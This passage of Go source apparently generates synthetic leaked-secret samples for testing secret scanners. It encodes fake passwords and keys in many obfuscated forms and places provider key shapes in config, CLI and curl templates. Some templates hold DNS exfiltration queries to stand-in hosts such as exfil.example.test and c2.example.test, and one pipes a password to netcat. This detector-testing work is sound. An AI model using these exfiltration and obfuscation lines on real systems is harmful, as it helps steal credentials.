			"security question answer (mother's maiden name) for the bank account: %s",
			"Q: first pet's name? A: %s",
			"recovery answers — school: Lincoln, city: %s"),
		s("wifi-qr-payload", "a Wi-Fi QR code payload (WIFI:T:WPA;S:...;P:...;; as phones read it)", pw,
			"WIFI:T:WPA;S:Office-5G;P:%s;;",
			"the QR on the wall decodes to WIFI:S:GuestNet;T:WPA2;P:%s;H:false;;",
			"scan result: WIFI:T:SAE;S:lab;P:%s;;"),
	}
	return ks
}

// --- encoded: secrets under encodings and obfuscations; the labelled secret is the encoded form ---

func b4enc(name, source string, plain func(*gen) string, enc func(string) string, texts ...string) b3Kind {
	return b4t("encoded", name, source, func(g *gen) string { return enc(plain(g)) }, texts...)
}

func b4Encoded() []b3Kind {
	pw := b4pw
	key := func(g *gen) string { return "sk_live_" + g.s(alnum, 32) }
	long := func(g *gen) string { return "api_secret=" + g.s(alnum, 48) + "&user=svc-reports&pass=" + b4pw(g) }
	std := base64.StdEncoding.EncodeToString
	raw := func(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }
	urlb := func(s string) string { return base64.URLEncoding.EncodeToString([]byte(s)) }
	rawurl := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	codes := func(s, sep, format string) string { return b3codes(s, sep, format) }
	e := b4enc
	return []b3Kind{
		e("base64-std-padded-pw", "a password as standard base64 with padding (RFC 4648 §4)", pw, func(s string) string { return std([]byte(s)) },
			"echo %s | base64 -d  # that's the db password", "password_b64: %s", "decode this, it's the wifi key: %s"),
		e("base64-raw-nopad-pw", "a password as base64 without padding (RFC 4648 §3.2)", pw, raw,
			"SECRET_B64=%s", "\"pw\":\"%s\" (base64, unpadded)", "the token is just %s base64'd"),
		e("base64url-padded-key", "a key as URL-safe base64 with padding (RFC 4648 §5)", key, urlb,
			"?k=%s", "encoded_key: %s", "Stripe key (urlsafe b64): %s"),
		e("base64url-nopad-key", "a key as URL-safe base64 without padding", key, rawurl,
			"X-Obf-Key: %s", "cfg.key = \"%s\"", "base64url → %s"),
		e("base64-wrapped-76", "a long credential string as MIME base64, wrapped at 76 columns (RFC 2045)", long, func(s string) string { return wrap(std([]byte(s)), 76) },
			"Content-Transfer-Encoding: base64\n\n%s\n", "openssl base64 output:\n%s", "config blob:\n%s"),
		e("hex-lower-pw", "a password as lowercase hex", pw, func(s string) string { return hex.EncodeToString([]byte(s)) },
			"echo %s | xxd -r -p", "pass_hex = \"%s\"", "hex of the password: %s"),
		e("hex-upper-0x", "a key as uppercase hex with 0x", key, func(s string) string { return "0x" + strings.ToUpper(hex.EncodeToString([]byte(s))) },
			"SECRET=%s", "value: %s (hex-encoded)", "INSERT INTO cfg(k,v) VALUES ('stripe', %s);"),
		e("hex-colons", "a password as hex bytes separated by colons, as openssl and Wireshark print them", pw, func(s string) string { return codes(s, ":", "%02x") },
			"Data: %s", "    payload (hex): %s", "bytes %s"),
		e("hex-byte-array-0x", "a password as a C or Go byte array of 0x.. literals", pw, func(s string) string { return codes(s, ", ", "0x%02x") },
			"var secret = []byte{%s}", "static const uint8_t key[] = { %s };", "let pw: [u8; 14] = [%s];"),
		e("url-encoded-once", "a password with symbols URL-encoded once (RFC 3986)", func(g *gen) string {
			return g.s(alnum, 6) + "#" + g.s(alnum, 3) + "@" + g.s(alnum, 4) + "/+" + g.s(b4Dig, 3)
		}, url.QueryEscape,
			"postgres://app:%s@db:5432/app", "curl -d 'username=ops&password=%s' https://login.example.test", "login?u=admin&p=%s"),
		e("url-encoded-twice", "a password URL-encoded twice, as it ends up in a nested redirect", func(g *gen) string { return g.s(alnum, 7) + "%" + g.s(alnum, 3) + "&" + g.s(alnum, 4) + "=!" }, func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
			"https://sso.example.test/next?url=https%3A%2F%2Fapp%2Flogin%3Fpw%3D%s", "redirect_uri=...%26password%3D%s", "logged: pw=%s"),
		e("json-unicode-escapes", "a password with every character as a JSON \\u escape", pw, func(s string) string { return codes(s, "", "\\u%04x") },
			"{\"password\": \"%s\"}", "\"secret\":\"%s\"", "body={\"pass\":\"%s\"}"),
		e("js-hex-escapes", "a password as JavaScript \\x escapes", pw, func(s string) string { return codes(s, "", "\\x%02x") },
			"const p = '%s';", "eval(\"login('admin','%s')\")", "var _0x1a2b = \"%s\";"),
		e("python-bytes-literal", "a password as a Python bytes literal of \\x escapes", pw, func(s string) string { return codes(s, "", "\\x%02x") },
			"PASSWORD = b'%s'.decode()", "key = b\"%s\"", ">>> secret\nb'%s'"),
		e("csharp-char-array", "a password as a C# or Java char array", pw, func(s string) string { return codes(s, ", ", "'%c'") },
			"var pw = new string(new[] { %s });", "char[] password = { %s };", "new String(new char[]{%s})"),
		e("java-octal-escapes", "a password as octal escapes in a C or Java string", pw, func(s string) string { return codes(s, "", "\\%03o") },
			"char *pw = \"%s\";", "String s = \"%s\";", "printf '%s' | nc host 23"),
		e("html-entities-decimal", "a password as decimal HTML entities", pw, func(s string) string { return codes(s, "", "&#%d;") },
			"<input type=\"hidden\" name=\"pw\" value=\"%s\">", "<span class=\"secret\">%s</span>", "password: %s"),
		e("html-entities-hex", "a password as hexadecimal HTML entities", pw, func(s string) string { return codes(s, "", "&#x%x;") },
			"<meta name=\"api-key\" content=\"%s\">", "data-secret=\"%s\"", "<td>%s</td>"),
		e("rot13-pw", "a password rot13'd", pw, b3rot13,
			"password (rot13 so the bots don't see it): %s", "pw_rot13=%s", "rot13 → %s"),
		e("rot47-pw", "a password rot47'd", pw, b4rot47,
			"rot47: %s", "obfuscated_password = \"%s\"  # rot47", "here's it in rot47 %s"),
		e("reversed-pw", "a password written backwards", pw, b3reverse,
			"password backwards: %s", "read it right to left: %s", "pw reversed = %s"),
		e("caesar-3-pw", "a password in a Caesar shift of 3 (letters and digits)", pw, func(s string) string { return b4caesar(s, 3) },
			"shifted by 3: %s", "caesar(+3) of the pass: %s", "enc_pw=%s ; shift=3"),
		e("xor-key-hex", "a password XOR'd with the key 0x5A, shown as hex", pw, func(s string) string {
			b := []byte(s)
			for i := range b {
				b[i] ^= 0x5A
			}
			return hex.EncodeToString(b)
		},
			"XOR key 0x5A, ciphertext %s", "obf = bytes.fromhex('%s'); pw = bytes(b ^ 0x5a for b in obf)", "enc: %s (xor 5a)"),
		e("gzip-base64", "a config with a secret, gzipped then base64'd", long, b3gzb64,
			"echo %s | base64 -d | gunzip", "userData: %s", "compressed: %s"),
		e("zlib-base64", "a config with a secret, zlib-deflated then base64'd", long, b4zlib,
			"python -c \"import zlib,base64;print(zlib.decompress(base64.b64decode('%s')))\"", "blob=%s", "payload (zlib+b64): %s"),
		e("base32-pw", "a password as base32 (RFC 4648 §6)", pw, func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) },
			"b32: %s", "echo %s | base32 -d", "secret_base32 = \"%s\""),
		e("base58-key", "a key as base58 (Bitcoin alphabet)", key, func(s string) string { return b3b58([]byte(s)) },
			"base58: %s", "encoded key %s", "KEY_B58=%s"),
		e("ascii85-framed", "a password as Ascii85 with its <~ ~> frame", pw, func(s string) string { return "<~" + b3a85([]byte(s)) + "~>" },
			"%s", "pdf stream shows %s", "a85: %s"),
		e("base45-pw", "a password as base45 (RFC 9285)", pw, func(s string) string { return b3b45([]byte(s)) },
			"base45: %s", "QR payload %s", "b45(pw)=%s"),
		e("quoted-printable-pw", "a password with symbols and accents as quoted-printable (RFC 2045)", func(g *gen) string { return "Mötley=" + g.s(alnum, 6) + "ßé!" + g.s(b4Dig, 3) }, b3qp,
			"Content-Transfer-Encoding: quoted-printable\n\nIhr Passwort: %s", "Mot de passe : %s", "pw=%s"),
		e("mime-encoded-word", "a password in an RFC 2047 encoded-word in a mail header", pw, func(s string) string { return std([]byte(s)) },
			"Subject: =?utf-8?b?%s?= (your new password)", "X-Note: Passwort =?UTF-8?B?%s?=", "Subject: Re: =?utf-8?b?%s?="),
		e("data-uri-b64", "a secret file as a data: URI", long, func(s string) string { return std([]byte(s)) },
			"<a href=\"data:text/plain;base64,%s\">creds.txt</a>", "url(data:application/octet-stream;base64,%s)", "download: data:text/plain;charset=utf-8;base64,%s"),
		e("fullwidth-pw", "a password in fullwidth forms (U+FF01..)", pw, b4fullwidth,
			"パスワード：%s", "密码：%s", "pw: %s"),
		e("zero-width-pw", "a password with zero-width spaces between characters", pw, b4zw,
			"password: %s", "the key is %s (copy it exactly)", "pw=%s"),
		e("homoglyph-pw", "a password with Cyrillic look-alike letters", func(g *gen) string {
			return g.pick("Ecopark", "Macrocosm", "Apocope", "Scape", "Exotherm") + g.s(b4Dig, 4) + g.pick("Cape", "Hoax", "Torch") + "!"
		}, b3homoglyph,
			"password: %s", "пароль: %s", "pw %s"),
		e("concatenated-literals", "a key split into concatenated string literals", key, func(s string) string {
			n := len(s) / 3
			return "\"" + s[:n] + "\" + \"" + s[n:2*n] + "\" + \"" + s[2*n:] + "\""
		},
			"const key = %s;", "api_key = (%s)", "String k = %s;"),
		e("array-join-literals", "a key as an array of chunks joined at run time", key, func(s string) string {
			var p []string
			for i := 0; i < len(s); i += 8 {
				p = append(p, "'"+s[i:min(i+8, len(s))]+"'")
			}
			return strings.Join(p, ", ")
		},
			"const secret = [%s].join('');", "headers: { Authorization: 'Bearer ' + [%s].join('') }", "key = ''.join([%s])"),
		e("fromcharcode", "a password as String.fromCharCode arguments", pw, func(s string) string { return codes(s, ",", "%d") },
			"var p = String.fromCharCode(%s);", "login(user, String.fromCharCode(%s))", "document.getElementById('pw').value = String.fromCharCode(%s)"),
		e("atob-inline", "a password inside atob() or Base64.decode() in code", pw, func(s string) string { return std([]byte(s)) },
			"const pw = atob('%s');", "db.connect('app', atob(\"%s\"))", "password: Buffer.from('%s', 'base64').toString(),"),
		e("json-string-escaped-nested", "a password inside JSON inside a JSON string (escaped twice)", pw, func(s string) string {
			inner := b4jsonStr(s)
			inner = b4jsonStr(inner[1 : len(inner)-1])
			return inner[1 : len(inner)-1]
		},
			"{\"payload\": \"{\\\"user\\\":\\\"svc\\\",\\\"password\\\":\\\"%s\\\"}\"}", "\"body\":\"{\\\"pass\\\":\\\"%s\\\"}\"", "message=\"{\\\"secret\\\": \\\"%s\\\"}\""),
		e("go-rust-raw-string", "a password in a Go raw string or a Rust raw string", pw, func(s string) string { return "r#\"" + s + "\"#" },
			"let pw = %s;", "const PW: &str = %s;", "config.password(%s)"),
		e("punycode-like-label", "a token hidden in an xn-- DNS label (punycode-looking), as DNS exfiltration does", func(g *gen) string { return g.s(b4LoD, 30) }, func(s string) string { return "xn--" + s },
			"dig TXT %s.exfil.example.test", "nslookup %s.c2.example.test", "query: %s.tunnel.example.test A"),
		e("base64-of-json-creds", "a JSON credential object as base64 (as Kubernetes and docker config hold it)", func(g *gen) string {
			return `{"username":"robot$ci","password":"` + g.s(alnum, 32) + `"}`
		}, func(s string) string { return std([]byte(s)) },
			"{\"auths\":{\"quay.io\":{\"auth\":\"%s\"}}}", ".dockerconfigjson: %s", "CREDS_B64=%s"),
	}
}

// --- provider: keys of less famous services by their documented shape ---

// b4prov is a provider's key in four contexts: an env file, the provider's SDK or config, an HTTP
// call, and one of a chat line, a JSON config, fly/gh/heroku secret commands, docker-compose or
// tfvars (which one depends on the kind's name).
func b4prov(name, prov, source, env, sdk, call string, body func(*gen) string) b3Kind {
	lower := strings.ToLower(env)
	pool := []string{
		prov + " key for the staging account: %s",
		"{\n  \"" + strings.ToLower(strings.ReplaceAll(prov, " ", "")) + "\": {\n    \"apiKey\": \"%s\",\n    \"timeout\": 30\n  }\n}",
		"fly secrets set " + env + "=%s -a api-prod",
		"gh secret set " + env + " --body \"%s\" --repo team/api",
		"heroku config:set " + env + "=%s -a shop-eu",
		"services:\n  worker:\n    image: team/worker:2.3\n    environment:\n      - " + env + "=%s",
		lower + " = \"%s\"",
		"export " + env + "='%s'",
	}
	h := fnv.New32a()
	h.Write([]byte(name))
	o := int(h.Sum32() % uint32(len(pool)))
	return b4t("provider", name, source, body, env+"=%s", sdk, call, pool[o])
}

func b4Providers() []b3Kind {
	gl := func(rule string) string { return "shape after gitleaks config/gitleaks.toml rule " + rule }
	th := func(det string) string { return "shape after trufflehog's " + det + " detector pattern" }
	p := b4prov
	hexN := func(n int) func(*gen) string { return func(g *gen) string { return g.s(hexlc, n) } }
	return []b3Kind{
		p("beamer-api-key", "Beamer", gl("beamer-api-token")+": b_ + 44 url-safe", "BEAMER_API_KEY",
			"beamer.init({ apiKey: '%s' })", "curl -H 'Beamer-Api-Key: %s' https://api.getbeamer.com/v0/posts", b4pre("b_", b64url, 44)),
		p("databricks-pat", "Databricks", gl("databricks-api-token")+": dapi + 32 hex, optional -2", "DATABRICKS_TOKEN",
			"[DEFAULT]\nhost = https://adb-1234567890123456.7.azuredatabricks.net\ntoken = %s", "curl -H 'Authorization: Bearer %s' https://adb-1234.7.azuredatabricks.net/api/2.0/clusters/list",
			func(g *gen) string { return "dapi" + g.s(hexlc, 32) + g.pick("", "-2", "-3") }),
		p("defined-networking-key", "Defined Networking", gl("defined-networking-api-token")+": dnkey- + 26 + - + 52", "DN_API_KEY",
			"dnclient enroll -code %s", "curl -H 'Authorization: Bearer %s' https://api.defined.net/v1/hosts",
			func(g *gen) string { return "dnkey-" + g.s(b4UpD, 26) + "-" + g.s(b4UpD, 52) }),
		p("doppler-service-token", "Doppler", gl("doppler-api-token")+" and Doppler's token docs: dp.st. / dp.pt. + 43", "DOPPLER_TOKEN",
			"doppler configure set token %s --scope /srv/app", "curl -u %s: https://api.doppler.com/v3/configs/config/secrets/download?format=env",
			func(g *gen) string { return g.pick("dp.st.prd.", "dp.pt.", "dp.sa.") + g.s(alnum, 43) }),
		p("duffel-token", "Duffel", gl("duffel-api-token")+": duffel_test_ / duffel_live_ + 43 url-safe", "DUFFEL_ACCESS_TOKEN",
			"const duffel = new Duffel({ token: '%s' })", "curl -H 'Authorization: Bearer %s' -H 'Duffel-Version: v2' https://api.duffel.com/air/offer_requests",
			func(g *gen) string { return g.pick("duffel_test_", "duffel_live_") + g.s(b64url, 43) }),
		p("flutterwave-secret", "Flutterwave", gl("flutterwave-secret-key")+": FLWSECK_TEST- + 32 hex + -X", "FLW_SECRET_KEY",
			"const flw = new Flutterwave(process.env.FLW_PUBLIC_KEY, '%s');", "curl -H 'Authorization: Bearer %s' https://api.flutterwave.com/v3/transactions",
			func(g *gen) string { return g.pick("FLWSECK_TEST-", "FLWSECK-") + g.s(hexlc, 32) + "-X" }),
		p("frameio-token", "Frame.io", gl("frameio-api-token")+": fio-u- + 64 url-safe", "FRAMEIO_TOKEN",
			"client = FrameioClient('%s')", "curl -H 'Authorization: Bearer %s' https://api.frame.io/v2/me", b4pre("fio-u-", b64url, 64)),
		p("gocardless-token", "GoCardless", gl("gocardless-api-token")+": live_ / sandbox_ + 40 url-safe", "GOCARDLESS_ACCESS_TOKEN",
			"client = GoCardlessPro::Client.new(access_token: '%s', environment: :live)", "curl -H 'Authorization: Bearer %s' -H 'GoCardless-Version: 2015-07-06' https://api.gocardless.com/customers",
			func(g *gen) string { return g.pick("live_", "sandbox_") + g.s(b64url, 40) }),
		p("grafana-service-account", "Grafana", gl("grafana-service-account-token")+": glsa_ + 32 alnum + _ + 8 hex", "GRAFANA_SA_TOKEN",
			"provider \"grafana\" {\n  url  = \"https://grafana.corp.local\"\n  auth = \"%s\"\n}", "curl -H 'Authorization: Bearer %s' https://grafana.corp.local/api/dashboards/home",
			func(g *gen) string { return "glsa_" + g.s(alnum, 32) + "_" + g.s(hexlc, 8) }),
		p("heroku-hrku-key", "Heroku", gl("heroku-api-key-v2")+": HRKU-AA + 58 url-safe", "HEROKU_API_KEY",
			"machine api.heroku.com\n  login me@example.test\n  password %s", "curl -H 'Authorization: Bearer %s' -H 'Accept: application/vnd.heroku+json; version=3' https://api.heroku.com/apps",
			func(g *gen) string { return "HRKU-AA" + g.s(b64url, 58) }),
		p("hubspot-private-app", "HubSpot", "HubSpot private app token docs: pat-<region>- + uuid", "HUBSPOT_ACCESS_TOKEN",
			"hubspot_client = HubSpot(access_token='%s')", "curl -H 'Authorization: Bearer %s' https://api.hubapi.com/crm/v3/objects/contacts",
			func(g *gen) string { return g.pick("pat-na1-", "pat-eu1-") + b4uuid(g) }),
		p("linear-api-key", "Linear", gl("linear-api-key")+": lin_api_ + 40 alnum", "LINEAR_API_KEY",
			"const linear = new LinearClient({ apiKey: '%s' })", "curl -H 'Authorization: %s' -d '{\"query\":\"{ viewer { id } }\"}' https://api.linear.app/graphql", b4pre("lin_api_", alnum, 40)),
		p("lob-key", "Lob", gl("lob-api-key")+": live_ / test_ + 35 hex", "LOB_API_KEY",
			"const lob = require('lob')('%s');", "curl -u %s: https://api.lob.com/v1/addresses",
			func(g *gen) string { return g.pick("live_", "test_") + g.s(hexlc, 35) }),
		p("mailchimp-key-dc", "Mailchimp", gl("mailchimp-api-key")+": 32 hex + -us + data-center digits", "MAILCHIMP_API_KEY",
			"mailchimp.setConfig({ apiKey: '%s', server: 'us14' });", "curl -u anystring:%s https://us14.api.mailchimp.com/3.0/lists",
			func(g *gen) string { return g.s(hexlc, 32) + "-us" + g.s("123456789", 1) + g.s(b4Dig, 1) }),
		p("mailgun-private-key", "Mailgun", gl("mailgun-private-api-token")+": key- + 32 hex", "MAILGUN_API_KEY",
			"mg = Mailgun(domain='mg.example.test', api_key='%s')", "curl -s --user 'api:%s' https://api.mailgun.net/v3/mg.example.test/messages -F to=a@example.test", b4pre("key-", hexlc, 32)),
		p("octopus-deploy-key", "Octopus Deploy", gl("octopus-deploy-api-key")+": API- + 26 upper alnum", "OCTOPUS_API_KEY",
			"octo push --package app.1.0.0.zip --server https://octo.corp.local --apiKey %s", "curl -H 'X-Octopus-ApiKey: %s' https://octo.corp.local/api/projects", b4pre("API-", b4UpD, 26)),
		p("postman-api-key", "Postman", gl("postman-api-token")+": PMAK- + 24 hex + - + 34 hex", "POSTMAN_API_KEY",
			"newman run https://api.getpostman.com/collections/123?apikey=%s", "curl -H 'X-Api-Key: %s' https://api.getpostman.com/me",
			func(g *gen) string { return "PMAK-" + g.s(hexlc, 24) + "-" + g.s(hexlc, 34) }),
		p("prefect-key", "Prefect", gl("prefect-api-token")+": pnu_ + 36 alnum", "PREFECT_API_KEY",
			"prefect cloud login --key %s --workspace team/prod", "curl -H 'Authorization: Bearer %s' https://api.prefect.cloud/api/me/", b4pre("pnu_", alnum, 36)),
		p("readme-key", "ReadMe", gl("readme-api-token")+": rdme_ + 70 alnum", "README_API_KEY",
			"rdme openapi openapi.json --key=%s", "curl -u %s: https://dash.readme.com/api/v1/api-specification", b4pre("rdme_", b4LoD, 70)),
		p("rubygems-key", "RubyGems", gl("rubygems-api-token")+": rubygems_ + 48 hex", "GEM_HOST_API_KEY",
			"---\n:rubygems_api_key: %s", "curl -H 'Authorization: %s' https://rubygems.org/api/v1/gems.json", b4pre("rubygems_", hexlc, 48)),
		p("scalingo-token", "Scalingo", gl("scalingo-api-token")+": tk-us- + 48", "SCALINGO_API_TOKEN",
			"scalingo login --api-token %s", "curl -u :%s https://auth.scalingo.com/v1/tokens/exchange", b4pre("tk-us-", b64url, 48)),
		p("brevo-key", "Brevo (Sendinblue)", gl("sendinblue-api-token")+": xkeysib- + 64 hex + - + 16 alnum", "BREVO_API_KEY",
			"SibApiV3Sdk.ApiClient.instance.authentications['api-key'].apiKey = '%s';", "curl -H 'api-key: %s' https://api.brevo.com/v3/account",
			func(g *gen) string { return "xkeysib-" + g.s(hexlc, 64) + "-" + g.s(alnum, 16) }),
		p("sentry-user-token", "Sentry", gl("sentry-user-token")+": sntryu_ + 64 hex", "SENTRY_AUTH_TOKEN",
			"[auth]\ntoken=%s", "curl -H 'Authorization: Bearer %s' https://sentry.io/api/0/projects/", b4pre("sntryu_", hexlc, 64)),
		p("shippo-token", "Shippo", gl("shippo-api-token")+": shippo_live_ / shippo_test_ + 40 hex", "SHIPPO_API_KEY",
			"shippo.config.api_key = '%s'", "curl -H 'Authorization: ShippoToken %s' https://api.goshippo.com/addresses/",
			func(g *gen) string { return g.pick("shippo_live_", "shippo_test_") + g.s(hexlc, 40) }),
		p("shopify-shared-secret", "Shopify", gl("shopify-shared-secret")+": shpss_ / shpca_ / shppa_ + 32 hex", "SHOPIFY_API_SECRET",
			"shopify.Context.initialize({ API_SECRET_KEY: '%s', SCOPES: ['read_products'] })", "curl -H 'X-Shopify-Access-Token: %s' https://shop.myshopify.com/admin/api/2024-04/shop.json",
			func(g *gen) string { return g.pick("shpss_", "shpca_", "shppa_") + g.s(hexlc, 32) }),
		p("sidekiq-enterprise-creds", "Sidekiq Enterprise", gl("sidekiq-secret")+": 8 hex : 8 hex", "BUNDLE_ENTERPRISE__CONTRIBSYS__COM",
			"bundle config --local enterprise.contribsys.com %s", "curl -u %s https://enterprise.contribsys.com/",
			func(g *gen) string { return g.s(hexlc, 8) + ":" + g.s(hexlc, 8) }),
		p("square-access-token", "Square", gl("square-access-token")+": EAAA + 60 url-safe", "SQUARE_ACCESS_TOKEN",
			"client = Square::Client.new(access_token: '%s', environment: 'production')", "curl -H 'Authorization: Bearer %s' -H 'Square-Version: 2024-04-17' https://connect.squareup.com/v2/locations", b4pre("EAAA", b64url, 60)),
		p("typeform-pat", "Typeform", gl("typeform-api-token")+": tfp_ + 59", "TYPEFORM_TOKEN",
			"const typeformAPI = createClient({ token: '%s' })", "curl -H 'Authorization: Bearer %s' https://api.typeform.com/forms",
			func(g *gen) string { return "tfp_" + g.s(alnum, 44) + "_" + g.s(alnum, 14) }),
		p("yandex-cloud-key", "Yandex Cloud", gl("yandex-api-key")+": AQVN + 35-38 url-safe", "YC_API_KEY",
			"yc config set token %s", "curl -H 'Authorization: Api-Key %s' https://llm.api.cloud.yandex.net/foundationModels/v1/completion", b4pre("AQVN", b64url, 36)),
		p("infracost-key", "Infracost", gl("infracost-api-token")+": ico- + 32 alnum", "INFRACOST_API_KEY",
			"infracost configure set api_key %s", "curl -H 'X-Api-Key: %s' https://pricing.api.infracost.io/graphql", b4pre("ico-", alnum, 32)),
		p("tavily-key", "Tavily", "Tavily API docs: tvly- + 32 alnum (tvly-dev- for dev keys)", "TAVILY_API_KEY",
			"tavily = TavilyClient(api_key='%s')", "curl -H 'Authorization: Bearer %s' https://api.tavily.com/search", b4pre("tvly-dev-", alnum, 32)),
		p("wandb-key", "Weights & Biases", "wandb docs: 40 hex, no prefix (wandb login)", "WANDB_API_KEY",
			"wandb login %s", "curl -u api:%s https://api.wandb.ai/graphql", hexN(40)),
		p("supabase-pat", "Supabase", th("supabase")+": sbp_ + 40 hex", "SUPABASE_ACCESS_TOKEN",
			"supabase login --token %s", "curl -H 'Authorization: Bearer %s' https://api.supabase.com/v1/projects", b4pre("sbp_", hexlc, 40)),
		p("resend-key", "Resend", th("resend")+": re_ + 8 + _ + 24", "RESEND_API_KEY",
			"const resend = new Resend('%s');", "curl -H 'Authorization: Bearer %s' https://api.resend.com/emails",
			func(g *gen) string { return "re_" + g.s(alnum, 8) + "_" + g.s(alnum, 24) }),
		p("xendit-secret", "Xendit", "Xendit docs: xnd_development_ / xnd_production_ + 60", "XENDIT_SECRET_KEY",
			"Xendit.apiKey = \"%s\";", "curl -u %s: https://api.xendit.co/balance",
			func(g *gen) string { return g.pick("xnd_development_", "xnd_production_") + g.s(alnum, 60) }),
		p("paystack-secret", "Paystack", "Paystack docs: sk_live_ / sk_test_ + 40 hex", "PAYSTACK_SECRET_KEY",
			"const paystack = require('paystack')('%s');", "curl -H 'Authorization: Bearer %s' https://api.paystack.co/transaction",
			func(g *gen) string { return g.pick("sk_live_", "sk_test_") + g.s(hexlc, 40) }),
		p("sonar-token", "SonarQube", gl("sonar-api-token")+": squ_ / sqp_ / sqa_ + 40 hex", "SONAR_TOKEN",
			"mvn sonar:sonar -Dsonar.host.url=https://sonar.corp.local -Dsonar.token=%s", "curl -u %s: https://sonar.corp.local/api/projects/search",
			func(g *gen) string { return g.pick("squ_", "sqp_", "sqa_") + g.s(hexlc, 40) }),
		p("docker-hub-pat", "Docker Hub", th("dockerhub")+": dckr_pat_ + 27 url-safe", "DOCKERHUB_TOKEN",
			"echo %s | docker login -u teambot --password-stdin", "curl -H 'Authorization: Bearer %s' https://hub.docker.com/v2/repositories/team/",
			func(g *gen) string { return g.pick("dckr_pat_", "dckr_oat_") + g.s(b64url, 27) }),
		p("gitlab-runner-and-deploy", "GitLab", gl("gitlab-rrt / gitlab-deploy-token / gitlab-ptt")+": glrt- / gldt- / glptt- + 20-40", "CI_RUNNER_TOKEN",
			"gitlab-runner register --url https://gitlab.example.com --token %s", "curl -X POST -F token=%s -F ref=main https://gitlab.example.com/api/v4/projects/9/trigger/pipeline",
			func(g *gen) string { return g.pick("glrt-", "gldt-", "glptt-", "glcbt-", "glft-") + g.s(b64url, 20) }),
		p("gcp-oauth-client-secret", "Google OAuth client", gl("gcp-client-secret")+": GOCSPX- + 28", "GOOGLE_CLIENT_SECRET",
			"{\"installed\":{\"client_id\":\"1234-abc.apps.googleusercontent.com\",\"client_secret\":\"%s\"}}", "curl -d 'client_id=1234-abc.apps.googleusercontent.com&client_secret=%s&grant_type=refresh_token&refresh_token=1//0g' https://oauth2.googleapis.com/token", b4pre("GOCSPX-", b64url, 28)),
		p("aws-bedrock-key", "Amazon Bedrock", "AWS Bedrock API keys docs: ABSK + base64", "AWS_BEARER_TOKEN_BEDROCK",
			"client = boto3.client('bedrock-runtime')  # uses %s", "curl -H 'Authorization: Bearer %s' https://bedrock-runtime.us-east-1.amazonaws.com/model/x/converse",
			func(g *gen) string { return "ABSK" + g.b64(96) }),
		p("volcengine-ak", "Volcengine", "Volcengine console's access key shape: AKLT + 40 base64", "VOLC_ACCESSKEY",
			"ve configure set --profile prod --ak %s --region cn-beijing", "curl -H 'X-Volc-AK: %s' https://open.volcengineapi.com/?Action=ListUsers",
			func(g *gen) string { return "AKLT" + g.s(alnum, 40) }),
		p("zoho-refresh-token", "Zoho", "Zoho OAuth docs: 1000. + 32 hex + . + 32 hex", "ZOHO_REFRESH_TOKEN",
			"zoho = ZohoCRM(refresh_token='%s')", "curl -d 'refresh_token=%s&grant_type=refresh_token' https://accounts.zoho.com/oauth/v2/token",
			func(g *gen) string { return "1000." + g.s(hexlc, 32) + "." + g.s(hexlc, 32) }),
		p("bitwarden-sm-access-token", "Bitwarden Secrets Manager", "Bitwarden SM docs: 0. + uuid + . + 30 + : + 24 base64", "BWS_ACCESS_TOKEN",
			"bws secret list --access-token %s", "docker run -e BWS_ACCESS_TOKEN=%s bitwarden/bws secret list",
			func(g *gen) string { return "0." + b4uuid(g) + "." + g.s(alnum, 30) + ":" + g.s(b64std, 22) + "==" }),
		p("onepassword-secret-key", "1Password", gl("1password-secret-key")+": A3- + 6 + - + 6 + - + 5 x4, uppercase alnum", "OP_SECRET_KEY",
			"op account add --address team.1password.com --email me@example.test --secret-key %s", "Emergency Kit\nSign-in address: team.1password.com\nSecret Key: %s",
			func(g *gen) string {
				return "A3-" + g.s(b4UpD, 6) + "-" + g.s(b4UpD, 6) + "-" + g.s(b4UpD, 5) + "-" + g.s(b4UpD, 5) + "-" + g.s(b4UpD, 5) + "-" + g.s(b4UpD, 5)
			}),
		p("matrix-access-token", "Matrix", "Synapse's access token shape: syt_ + base64 user + _ + 20 + _ + 6", "MATRIX_ACCESS_TOKEN",
			"client = AsyncClient('https://matrix.example.test', '@bot:example.test'); client.access_token = '%s'", "curl -H 'Authorization: Bearer %s' https://matrix.example.test/_matrix/client/v3/account/whoami",
			func(g *gen) string {
				return "syt_" + base64.RawStdEncoding.EncodeToString([]byte(g.pick("bot", "alerts", "ops"))) + "_" + g.s(alnum, 20) + "_" + g.s(alnum, 6)
			}),
		p("pushover-ntfy-tokens", "Pushover", "Pushover API docs: 30 lowercase alnum app token; ntfy access tokens tk_ + 29", "PUSHOVER_TOKEN",
			"po = Pushover(token='%s', user_key='uQiRzpo4DXghDmr9QzzfQu27cmVRsG')", "curl -s --form-string 'token=%s' --form-string 'user=uQiRzpo4DXghDmr9QzzfQu27cmVRsG' https://api.pushover.net/1/messages.json",
			func(g *gen) string { return g.s(b4LoD, 30) }),
		p("bluesky-app-password", "Bluesky", "Bluesky app passwords: four groups of 4 lowercase alnum", "BSKY_APP_PASSWORD",
			"agent.login({ identifier: 'bot.bsky.social', password: '%s' })", "curl -d '{\"identifier\":\"bot.bsky.social\",\"password\":\"%s\"}' -H 'Content-Type: application/json' https://bsky.social/xrpc/com.atproto.server.createSession",
			func(g *gen) string {
				return g.s(b4LoD, 4) + "-" + g.s(b4LoD, 4) + "-" + g.s(b4LoD, 4) + "-" + g.s(b4LoD, 4)
			}),
		p("line-channel-token", "LINE Messaging API", "LINE developers docs: channel access token, about 172 base64 characters ending =", "LINE_CHANNEL_ACCESS_TOKEN",
			"line_bot_api = LineBotApi('%s')", "curl -H 'Authorization: Bearer %s' https://api.line.me/v2/bot/info",
			func(g *gen) string { return g.s(b64std, 171) + "=" }),
		p("kakao-rest-key", "Kakao", "Kakao developers docs: REST API key, 32 hex, no prefix", "KAKAO_REST_API_KEY",
			"Kakao.init('%s');", "curl -H 'Authorization: KakaoAK %s' 'https://dapi.kakao.com/v2/local/search/address.json?query=판교'", hexN(32)),
		p("svix-webhook-secret", "Svix", "Svix docs: webhook signing secret whsec_ + base64 of 24-32 bytes", "SVIX_WEBHOOK_SECRET",
			"wh = Webhook('%s'); payload = wh.verify(body, headers)", "svix listen http://localhost:3000/webhooks --secret %s",
			func(g *gen) string { return "whsec_" + g.b64(24) }),
	}
}

// --- keymaterial: private keys and seeds ---

func b4KeyMaterial() []b3Kind {
	k := func(name, source string, body func(*gen) string, texts ...string) b3Kind {
		return b4t("keymaterial", name, source, body, texts...)
